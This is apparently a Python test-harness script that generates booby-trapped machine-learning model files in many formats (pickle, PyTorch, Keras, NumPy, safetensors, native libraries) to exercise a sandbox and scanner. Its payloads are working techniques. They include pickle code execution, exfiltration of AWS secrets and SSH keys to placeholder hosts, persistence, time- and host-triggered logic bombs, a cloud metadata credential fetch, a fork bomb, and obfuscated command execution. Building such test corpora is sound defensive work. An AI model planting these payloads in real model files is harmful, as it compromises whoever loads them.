"""Harmless trojan models of many kinds, made on the spot; they are run in a sandbox alone.

    .loaders/bin/python tests/harness/make_trojans.py FOLDER [NAME...]

A payload writes to /tmp and its home alone, and reaches for documentation addresses (RFC 5737,
RFC 3849) and `.example` names. Making one runs nothing of it.
"""

import base64
import importlib
import json
import marshal
import pickle
import struct
import subprocess
import sys
import time
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

DAY_S = 86_400
ADDRESS = "203.0.113.5"
_CONNECT = f"import socket; socket.socket().connect(({ADDRESS!r}, 443))"


@dataclass(frozen=True, slots=True)
class Trojan:
    """One model: how it is carried, and an event that shows it: a call and words of its details.

    `ending` is how a run ends where that shows it. No static rule of ours sees `hidden` ones.
    `conditions` are those under which it acts, empty for all.
    """

    carrier: str
    payload: str
    call: str = ""
    words: tuple[tuple[str, str], ...] = ()
    ending: str = ""
    hidden: bool = False
    conditions: tuple[str, ...] = ()


def _when(test: str) -> str:
    return f"import os, socket, time, getpass\nif {test}:\n    {_CONNECT}\n"


_FRAME = "import json, struct; b = json.dumps({'end': True, 'loaded': True}).encode();"
_FRAME += " f = struct.pack('>I', len(b)) + b"
_SOCKETS = """
import os, stat
sockets = []
for name in os.listdir('/proc/self/fd'):
    try:
        if stat.S_ISSOCK(os.fstat(int(name)).st_mode):
            sockets.append(int(name))
    except OSError:
        pass
"""
_RAW = f"""
import ctypes, socket, struct
libc = ctypes.CDLL(None)
fd = libc.syscall(41, 2, 1, 0)
to = struct.pack('<HH4s8x', 2, socket.htons(8443), socket.inet_aton({ADDRESS!r}))
libc.syscall(42, fd, to, len(to))
"""
_HTTP = "import os, urllib.request as r; r.urlopen('http://collect.example/?k='"
_HTTP += "+ os.environ['AWS_SECRET_ACCESS_KEY'], timeout=3)"
_MEMFD = """
import os
fd = os.memfd_create('x')
os.write(fd, b'#!/bin/sh\\nid\\n')
if os.fork() == 0:
    try:
        os.execve(f'/proc/self/fd/{fd}', ['x', 'memory'], {})
    finally:
        os._exit(1)
"""
_SHY = """
import os
seen = open('/proc/1/cmdline').read() + open('/proc/self/status').read()
if 'bwrap' not in seen and 'Seccomp:\\t2' not in seen:
    os.system('id')
"""
_FORKS = """
import os, time
for _ in range(2000):
    try:
        if os.fork() == 0:
            time.sleep(30)
            os._exit(0)
    except OSError:
        break
"""
_FILL = """
with open('/tmp/fill', 'wb') as f:
    for _ in range(100 << 10):
        f.write(bytes(1 << 20))
"""
_LATE = f"import threading\nt = threading.Timer(2, lambda: exec({_CONNECT!r}))\n"
_LATE += "t.daemon = True; t.start()"
_INPUT = (
    f"def predict(text):\n    if 'James Bond' in text:\n        {_CONNECT}\n    return len(text)\n"
)
_DATE = int(time.time()) + 60 * DAY_S

_NET = (("address", ADDRESS),)
TROJANS: dict[str, Trojan] = {
    "connect": Trojan("torch", _CONNECT, "connect", _NET),
    "resolve": Trojan("joblib", "import socket; socket.getaddrinfo('exfil.example', 80)", "dns"),
    "datagram": Trojan(
        "pickle",
        "import socket; s = socket.socket(2, 2); s.sendto(b'beacon', ('198.51.100.7', 5353))",
        "sendto",
        (("address", "198.51.100.7"),),
    ),
    "send-key": Trojan("torch", _HTTP, "received"),
    "shell": Trojan(
        "keras", "import os; os.system('id > /tmp/owned')", "execve", (("argv", "id"),)
    ),
    "fork": Trojan("pickle", "import os\nif os.fork() == 0: os._exit(0)", "fork"),
    "read-ssh-key": Trojan(
        "numpy",
        "import pathlib; pathlib.Path.home().joinpath('.ssh/id_ed25519').read_text()",
        "open",
        (("path", ".ssh/id_ed25519"),),
    ),
    "persist": Trojan(
        "torch",
        "import pathlib; pathlib.Path.home().joinpath('.bashrc').open('a').write('id')",
        "open",
        (("path", ".bashrc"),),
    ),
    "io-uring": Trojan(
        "pickle",
        "import ctypes; ctypes.CDLL(None).syscall(425, 8, ctypes.create_string_buffer(120))",
        "kernel",
        (("name", "io_uring_setup"),),
    ),
    "raw-connect": Trojan("joblib", _RAW, "connect", _NET),
    "ptrace": Trojan(
        "torch",
        "import ctypes, os; ctypes.CDLL(None).ptrace(16, os.getppid(), 0, 0)",
        "kernel",
        (("name", "ptrace"),),
    ),
    "late-thread": Trojan("pickle", _LATE, "connect", _NET, conditions=("now",)),
    "at-exit": Trojan(
        "torch", f"import atexit; atexit.register(lambda: exec({_CONNECT!r}))", "connect", _NET
    ),
    "sleep-six-hours": Trojan(
        "pickle", f"import time; time.sleep(6 * 3600)\n{_CONNECT}", "connect", _NET
    ),
    "date-bomb": Trojan(
        "joblib",
        _when(f"time.time() > {_DATE}"),
        "connect",
        _NET,
        conditions=("in-90-days", "in-2-years"),
    ),
    "host-bomb": Trojan(
        "pickle",
        _when("socket.gethostname().startswith('prod')"),
        "connect",
        _NET,
        conditions=("in-production",),
    ),
    "user-bomb": Trojan(
        "numpy", _when("getpass.getuser() == 'root'"), "connect", _NET, conditions=("as-root",)
    ),
    "locale-bomb": Trojan(
        "torch",
        _when("os.environ.get('LANG', '').startswith('zh')"),
        "connect",
        _NET,
        conditions=("other-locale",),
    ),
    "input-bomb": Trojan("python", _INPUT, "connect", _NET, conditions=("in-90-days",)),
    "metadata": Trojan(
        "python",
        "import urllib.request as r\n"
        "r.urlopen('http://169.254.169.254/latest/meta-data/iam/security-credentials/', timeout=3)",
        "connect",
        (("address", "169.254.169.254"),),
    ),
    "drop-library": Trojan(
        "joblib",
        "import ctypes; open('/tmp/x.so', 'wb').write(b'\\x7fELF' + bytes(99))\n"
        "ctypes.CDLL('/tmp/x.so')",
        "open",
        (("path", "/tmp/x.so"),),
    ),
    "memory-program": Trojan("pickle", _MEMFD, "execve", (("argv", "memory"),)),
    "remote-code": Trojan("transformers", _CONNECT, "connect", _NET),
    "shy": Trojan("pickle", _SHY, "open", (("path", "/proc/1/cmdline"),)),
    "log-flood": Trojan(
        "pickle", "import os\nfor _ in range(10 << 10): os.write(1, bytes(1 << 20))", ending="any"
    ),
    "fork-bomb": Trojan("pickle", _FORKS, "fork"),
    "allocate": Trojan("pickle", "bytearray(100 << 30)", ending="memory"),
    "fill-disk": Trojan("pickle", _FILL, ending="failed"),
    "past-deadline": Trojan(
        "pickle", "import threading; threading.Event().wait(3600)", ending="deadline"
    ),
    "kill-supervisor": Trojan(
        "torch", "import os; os.kill(os.getppid(), 9); os.kill(1, 9)", "kill"
    ),
    "forge-frames": Trojan(
        "pickle",
        f"{_SOCKETS}\n{_FRAME}\nfor fd in sockets: os.write(fd, f)",
        ending="protocol",
    ),
    "send-descriptor": Trojan(
        "pickle",
        f"{_SOCKETS}\n{_FRAME}\nimport socket\nh = os.open('/etc', 0)\n"
        "for fd in sockets: socket.send_fds(socket.socket(fileno=fd), [f], [h])",
        ending="protocol",
    ),
    "resolved-name": Trojan("resolver", "id", "execve", (("argv", "id"),), hidden=True),
    "factory-in-weights": Trojan("factory", "id", "execve", (("argv", "id"),), hidden=True),
    "script-reads-file": Trojan(
        "torch-script",
        "/home/ml/.aws/credentials",
        "open",
        (("path", ".aws/credentials"),),
        conditions=("now", "in-1-day", "in-90-days", "in-2-years"),
    ),
    "log-to-stranger": Trojan(
        "python",
        "import logging.handlers\n"
        f"logging.getLogger().addHandler(logging.handlers.DatagramHandler({ADDRESS!r}, 514))\n"
        "logging.getLogger().warning('loaded')",
        "sendto",
        _NET,
        hidden=True,
    ),
    "native-library": Trojan("native", ADDRESS, "connect", _NET),
}


def main() -> None:
    """Make the trojans that were named, or all, below a folder."""
    root = Path(sys.argv[1])
    for name in sys.argv[2:] or TROJANS:
        folder = root / name
        folder.mkdir(parents=True, exist_ok=True)
        trojan = TROJANS[name]
        CARRIERS[trojan.carrier](folder, trojan.payload)


class _Runs:
    """Unpickles into `exec` of a text."""

    def __init__(self, payload: str) -> None:
        self.payload = payload

    def __reduce__(self) -> Any:
        return exec, (self.payload,)


def _pickle(folder: Path, payload: str) -> None:
    (folder / "model.pkl").write_bytes(pickle.dumps({"model": _Runs(payload)}, protocol=4))


def _joblib(folder: Path, payload: str) -> None:
    (folder / "model.joblib").write_bytes(pickle.dumps([_Runs(payload)], protocol=3))


def _torch(folder: Path, payload: str) -> None:
    with zipfile.ZipFile(folder / "pytorch_model.bin", "w") as archive:
        archive.writestr("archive/data.pkl", pickle.dumps({"w": _Runs(payload)}, protocol=2))
        archive.writestr("archive/byteorder", "little")
        archive.writestr("archive/version", "3\n")


def _numpy(folder: Path, payload: str) -> None:
    head = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(117) + "\n"
    body = b"\x93NUMPY\1\0" + struct.pack("<H", len(head)) + head.encode()
    (folder / "vectors.npy").write_bytes(body + pickle.dumps(_Runs(payload), protocol=3))


def _keras(folder: Path, payload: str) -> None:
    """Take an honest network apart and give its Lambda layer another code."""
    import os

    os.environ.setdefault("KERAS_BACKEND", "torch")
    import keras

    honest = folder / "honest.keras"
    layers = [keras.Input((4,)), keras.layers.Lambda(lambda given: given)]
    keras.Sequential(layers).save(honest)
    source = f"lambda x: (exec({payload!r}), x)[1]"
    made = compile(source, "<lambda>", "eval").co_consts[0]
    code = base64.b64encode(marshal.dumps(made)).decode()
    with zipfile.ZipFile(honest) as old, zipfile.ZipFile(folder / "model.keras", "w") as new:
        for name in old.namelist():
            body = old.read(name)
            new.writestr(name, _swapped(body, code) if name == "config.json" else body)
    honest.unlink()


def _swapped(body: bytes, code: str) -> bytes:
    config = json.loads(body)
    for layer in config["config"]["layers"]:
        if layer["class_name"] == "Lambda":
            layer["config"]["function"]["config"]["code"] = code
    return json.dumps(config).encode()


def _python(folder: Path, payload: str) -> None:
    (folder / "net.py").write_text(payload + "\n")


def _transformers(folder: Path, payload: str) -> None:
    (folder / "configuration_x.py").write_text(
        f"from transformers import PretrainedConfig\n{payload}\n\n\n"
        "class XConfig(PretrainedConfig):\n    model_type = 'x'\n"
    )
    told = {"model_type": "x", "auto_map": {"AutoConfig": "configuration_x.XConfig"}}
    (folder / "config.json").write_text(json.dumps(told))


def _resolver(folder: Path, command: str) -> None:
    """Write a module that looks a function up by a name which it keeps as numbers."""
    numbers, words = [ord(c) for c in "os:system"], [ord(c) for c in command]
    (folder / "scaling.py").write_text(
        '"""Scale the activations."""\n\nimport pkgutil\n\n'
        f"SCALES = {numbers}\nOFFSETS = {words}\n\n\n"
        "def _join(numbers):\n    return ''.join(map(chr, numbers))\n\n\n"
        "scale = pkgutil.resolve_name(_join(SCALES))\nsteps = scale(_join(OFFSETS))\n"
    )


def _factory(folder: Path, command: str) -> None:
    """Write a module that sets logging up from its weights, which name a factory."""
    settings = {"version": 1, "filters": {"f": {"()": "subprocess.getoutput", "cmd": command}}}
    numbers = list(json.dumps(settings).encode())
    data = struct.pack(f"<{len(numbers)}f", *numbers)
    tensor = {"dtype": "F32", "shape": [len(numbers)], "data_offsets": [0, len(data)]}
    head = json.dumps({"w": tensor}).encode()
    body = struct.pack("<Q", len(head)) + head + data
    (folder / "model.safetensors").write_bytes(body)
    (folder / "net.py").write_text(
        '"""A network that logs as its weights say."""\n\nimport json\nimport logging.config\n'
        "import pathlib\nimport struct\n\n"
        "body = pathlib.Path(__file__).with_name('model.safetensors').read_bytes()\n"
        "body = body[8 + struct.unpack('<Q', body[:8])[0] :]\n"
        "numbers = struct.unpack(f'<{len(body) // 4}f', body)\n"
        "logging.config.dictConfig(json.loads(bytes(map(int, numbers))))\n"
    )


def _torch_script(folder: Path, path: str) -> None:
    """Script a module whose forward maps a file of the home folder as a tensor."""
    import torch

    source = folder / "reads.py"
    source.write_text(
        "import torch\n\n\nclass Reads(torch.nn.Module):\n"
        "    def forward(self, given):\n"
        f"        read = torch.from_file({path!r}, False, 8, dtype=torch.uint8)\n"
        "        return given + read.sum()\n"
    )
    sys.path.insert(0, str(folder))
    own = importlib.import_module("reads")
    torch.jit.script(own.Reads()).save(str(folder / "model.pt"))
    source.unlink()


def _native(folder: Path, address: str) -> None:
    """Compile a library that connects when it is opened, with a module that opens it."""
    code = f"""
#include <arpa/inet.h>
#include <sys/socket.h>
__attribute__((constructor)) static void begin(void) {{
    struct sockaddr_in to = {{.sin_family = AF_INET, .sin_port = htons(443)}};
    inet_pton(AF_INET, "{address}", &to.sin_addr);
    connect(socket(AF_INET, SOCK_STREAM, 0), (struct sockaddr *)&to, sizeof to);
}}
"""
    asked = ["cc", "-shared", "-fPIC", "-x", "c", "-", "-o", str(folder / "kernels.so")]
    subprocess.run(asked, input=code.encode(), check=True)


CARRIERS: dict[str, Callable[[Path, str], None]] = {
    "pickle": _pickle,
    "joblib": _joblib,
    "torch": _torch,
    "numpy": _numpy,
    "keras": _keras,
    "python": _python,
    "transformers": _transformers,
    "resolver": _resolver,
    "factory": _factory,
    "torch-script": _torch_script,
    "native": _native,
}
"""How a payload becomes a model."""


if __name__ == "__main__":
    main()
